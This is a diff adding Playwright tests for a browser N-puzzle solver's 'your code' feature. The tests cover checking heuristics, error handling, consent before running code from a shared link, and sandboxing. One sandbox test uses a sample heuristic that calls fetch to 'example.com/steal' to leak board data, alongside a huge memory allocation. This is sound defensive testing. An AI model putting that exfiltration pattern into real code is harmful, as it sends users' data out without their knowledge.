@@ -1,0 +1,190 @@
+"""Your code in the page: a person's heuristic written in the editor, checked on every 3x3
+state in a worker of its own, used by Solve like a built-in one; a person's search run and
+replayed, an illegal move refused with its step; code that loops forever or does not parse
+gives its message while the solver still solves; a link carries the code and does not run it
+until the person presses Run."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from playwright.sync_api import expect
+
+from npuzzle import Board
+from npuzzle.custom import TEMPLATE
+from npuzzle.known import eight_puzzle_distances
+
+from .pages import HARD, board_of, download, open_link, solve_and_read_length, tiles_of
+from .browsers import outcome_of, wait_ended
+
+DISTANCES = eight_puzzle_distances("blank-last")
+INADMISSIBLE = "def h(tiles, goal, rows, cols):\n    return 0 if tiles == goal else 5\n"
+ENDLESS = "def h(tiles, goal, rows, cols):\n    while True:\n        pass\n"
+BROKEN = "def h(tiles, goal, rows, cols):\n    total = 0\n    return total +\n"
+ILLEGAL_SEARCH = "def search(problem):\n    return [problem.start[0]]\n"
+
+
+def open_part(app: Any, which: str) -> Any:
+    """Open "Your heuristic" or "Your search" and return its editor (CodeMirror's content,
+    once the editor has loaded)."""
+    name = {"heuristic": "Your heuristic", "search": "Your search"}[which]
+    app.locator(f"#{which}-code > summary").click()
+    box = app.get_by_role("textbox", name=f"{name} (Python)")
+    expect(box).to_have_attribute("contenteditable", "true")  # CodeMirror's, not the fallback text area
+    return box
+
+
+def write(app: Any, box: Any, text: str) -> None:
+    """Replace the editor's text by ``text`` (as if pasted)."""
+    box.click()
+    app.keyboard.press("Control+a")
+    app.keyboard.press("Delete")
+    app.keyboard.insert_text(text)
+
+
+def check(app: Any) -> Any:
+    """Press Check and wait for its result; the result's element."""
+    app.get_by_role("button", name="Check", exact=True).click()
+    result = app.locator("#check-result")
+    expect(result).to_be_visible(timeout=90_000)
+    return result
+
+
+def test_the_template_is_checked_on_every_state_and_solves_like_the_built_in_manhattan(app: Any, site_url: str) -> None:
+    open_link(app, site_url, f"#board={HARD}&goal=blank-last&algorithm=astar&heuristic=manhattan")
+    built_in = solve_and_read_length(app)
+    box = open_part(app, "heuristic")
+    expect(box).to_contain_text("def h(tiles, goal, rows, cols):")
+    result = check(app)
+    expect(result).to_have_attribute("data-admissible", "true")
+    expect(result).to_have_attribute("data-consistent", "true")
+    expect(result).to_have_attribute("data-states", "181440")
+    expect(app.locator("#check-verdict")).to_contain_text("admissible: h never exceeds the true distance on all 181,440 states")
+    # In the Heuristic menu, proven admissible: A* with it is optimal, as long as the built-in one.
+    app.get_by_role("button", name="Use in the Heuristic menu").click()
+    expect(app.get_by_label("Heuristic", exact=True)).to_have_value("custom")
+    expect(app.locator("#about-summary")).to_contain_text("Your heuristic (my_heuristic.py) is admissible and consistent")
+    assert solve_and_read_length(app) == built_in == DISTANCES[tuple(map(int, HARD.split(",")))]
+    expect(app.locator("#result")).to_contain_text("Your heuristic (my_heuristic.py)")
+
+
+def test_an_inadmissible_heuristic_is_caught_with_its_worst_board_a_click_away(app: Any, site_url: str) -> None:
+    open_link(app, site_url, f"#board={HARD}&goal=blank-last")
+    write(app, open_part(app, "heuristic"), INADMISSIBLE)
+    result = check(app)
+    expect(result).to_have_attribute("data-admissible", "false")
+    expect(app.locator("#check-verdict")).to_contain_text("not admissible")
+    worst = app.locator('figure[data-worst="overestimate"]')
+    expect(worst).to_contain_text("h is 5 where 1 move suffices")
+    board = worst.get_attribute("data-board")
+    tiles = tuple(int(t) for t in board.split(","))
+    assert DISTANCES[tiles] == 1
+    worst.get_by_role("link", name="Open this board").click()
+    expect(app.locator("#board")).to_have_attribute("data-board", board)
+    csv = download(app, lambda: app.get_by_role("button", name="Download check (CSV)").click(), "npuzzle-check.csv")
+    header, row = csv.strip().split("\n")
+    assert header.startswith("file,heuristic,rows,cols,admissible,consistent") and ",false," in row
+
+
+def test_an_endless_loop_and_a_syntax_error_give_their_message_while_the_solver_still_solves(app: Any, site_url: str) -> None:
+    open_link(app, site_url, f"#board={HARD}&goal=blank-last&algorithm=astar&heuristic=manhattan")
+    box = open_part(app, "heuristic")
+    write(app, box, BROKEN)
+    app.get_by_role("button", name="Check", exact=True).click()
+    error = app.locator("#heuristic-code-error")
+    expect(error).to_have_text(re.compile(r"^my_heuristic\.py line 3: SyntaxError: "))
+    expect(app.locator("#heuristic-editor .cm-lintRange-error, #heuristic-editor .cm-lintRange")).to_have_count(1)
+    write(app, box, ENDLESS)
+    app.get_by_role("button", name="Check", exact=True).click()
+    # The solver is another worker: it solves while the person's h loops.
+    assert solve_and_read_length(app) == 31
+    status = app.locator("#check-status")
+    expect(status).to_have_attribute("data-state", "stopped", timeout=40_000)
+    expect(status).to_contain_text("stopped answering for 1")  # 10 s, or 11 by the watch's tick
+    expect(error).to_contain_text("Your code was stopped")
+    # And the code's worker starts afresh: the template checks again.
+    app.get_by_role("button", name="Start from the template").first.click()
+    expect(check(app)).to_have_attribute("data-admissible", "true")
+
+
+def test_a_persons_search_is_replayed_and_an_illegal_move_refused_with_its_step(app: Any, site_url: str) -> None:
+    open_link(app, site_url, "#board=1,2,3,4,5,6,0,7,8&goal=blank-last")
+    box = open_part(app, "search")
+    app.get_by_role("button", name="Run on the board").click()
+    status = app.locator("#search-status")
+    expect(status).to_have_attribute("data-state", "solved", timeout=60_000)
+    expect(status).to_contain_text("Your search: 2 moves, replayed to the goal")
+    expect(app.locator("#move-list")).to_have_attribute("data-moves", "LL")
+    write(app, box, ILLEGAL_SEARCH)
+    app.get_by_role("button", name="Run on the board").click()
+    expect(app.locator("#search-code-error")).to_contain_text("step 1 of 1: tile 1 is not next to the blank")
+    expect(status).to_have_attribute("data-state", "failed")
+
+
+def test_a_link_carries_the_code_and_opens_without_running_it(app: Any, site_url: str, browser: Any) -> None:
+    open_link(app, site_url, f"#board={HARD}&goal=blank-last")
+    write(app, open_part(app, "heuristic"), INADMISSIBLE)
+    app.get_by_role("button", name="Use in the Heuristic menu").click()
+    expect(app).to_have_url(re.compile(r"hcode=[A-Za-z0-9_-]+"))
+    expect(app).to_have_url(re.compile(r"heuristic=custom"))
+    address = app.url
+    other = browser.new_context().new_page()
+    try:
+        other.goto(address)
+        consent = other.locator("#code-consent")
+        expect(consent).to_be_visible(timeout=60_000)
+        expect(consent).to_contain_text("It has not run")
+        expect(other.get_by_role("textbox", name="Your heuristic (Python)")).to_contain_text("return 0 if tiles == goal else 5")
+        other.wait_for_timeout(500)
+        expect(other.locator("#check-result")).to_be_hidden()
+        assert other.locator("#heuristic option[value=custom]").count() == 0
+        other.get_by_role("button", name="Run", exact=True).click()
+        expect(consent).to_be_hidden()
+        expect(other.get_by_label("Heuristic", exact=True)).to_have_value("custom")
+        expect(other.locator("#check-result")).to_have_attribute("data-admissible", "false", timeout=90_000)
+    finally:
+        other.context.close()
+
+
+HOSTILE_NETWORK = ("import js\n\n\ndef h(tiles, goal, rows, cols):\n"
+                   "    js.fetch('https://example.com/steal?' + str(tiles))\n    return 0\n")
+HUGE = "def h(tiles, goal, rows, cols):\n    global hoard\n    hoard = bytearray(1_500_000_000)\n    return 0\n"
+
+
+def test_hostile_code_reaches_no_network_and_a_huge_allocation_is_stopped(app: Any, site_url: str) -> None:
+    """The app fixture fails the test on any request that leaves the site."""
+    open_link(app, site_url, f"#board={HARD}&goal=blank-last&algorithm=astar&heuristic=manhattan")
+    box = open_part(app, "heuristic")
+    write(app, box, HOSTILE_NETWORK)
+    app.get_by_role("button", name="Check", exact=True).click()
+    error = app.locator("#heuristic-code-error")
+    expect(error).to_contain_text("h raised", timeout=60_000)
+    expect(error).to_contain_text("at line 5")
+    write(app, box, HUGE)
+    app.get_by_role("button", name="Check", exact=True).click()
+    expect(error).to_contain_text(re.compile(r"MemoryError|memory grow to \d+ MB, past the limit"), timeout=60_000)
+    assert solve_and_read_length(app) == 31
+
+
+def test_your_heuristic_and_search_race_in_compare_all_and_explain_h(app: Any, site_url: str) -> None:
+    open_link(app, site_url, "#board=1,2,3,4,5,6,0,7,8&goal=blank-last")
+    open_part(app, "heuristic")
+    app.get_by_role("button", name="Use in the Heuristic menu").click()
+    open_part(app, "search")
+    # Why h: the person's h on the board shown (the template is Manhattan: 2 here).
+    app.locator("#why-h-summary").click()
+    expect(app.locator("#why-h-sum")).to_contain_text("2")
+    expect(app.locator("#why-h-summary")).to_contain_text("Your heuristic (my_heuristic.py)")
+    app.get_by_role("button", name="Compare all").click()
+    expect(app.locator("#status")).to_have_attribute("data-state", "compared", timeout=120_000)
+    rows = app.locator("#compare-table tbody tr")
+    texts = rows.all_inner_texts()
+    own = [t for t in texts if "Your heuristic (my_heuristic.py)" in t]
+    assert len(own) >= 3, texts  # every informed algorithm ran it
+    search = [t for t in texts if "Your search (my_search.py)" in t]
+    assert len(search) == 1 and "\t2\t" in search[0], search
+    # The search tree of A* with the person's heuristic.
+    app.get_by_label("Algorithm", exact=True).select_option("astar")
+    app.get_by_role("button", name="Search tree").click()
+    expect(app.locator("#tree-step-text")).to_contain_text("Expansion", timeout=60_000)
